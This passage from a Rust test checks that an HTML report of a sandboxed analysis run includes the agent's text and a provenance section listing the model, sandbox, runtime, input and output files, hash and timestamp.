    assert!(text.contains("I will read the file first."));

    // The provenance, at the end.
    let provenance = html.find("id=\"provenance\"").unwrap();
    assert!(provenance > code);
    let hash = "ab".repeat(32);
    for want in [
        run.meta.id.as_str(),
        "openai:gpt-test",
        "sandalyst-sandbox:test",
        "runc",
        "input/energy.csv",
        "12,345",
        hash.as_str(),
        "output/anomalies.csv",
        "cell 1",
        "2026-12-07 06:00 UTC",
    ] {
        assert!(
            text[text.find("Provenance").unwrap()..].contains(want),
            "{want}"
        );
    }
}
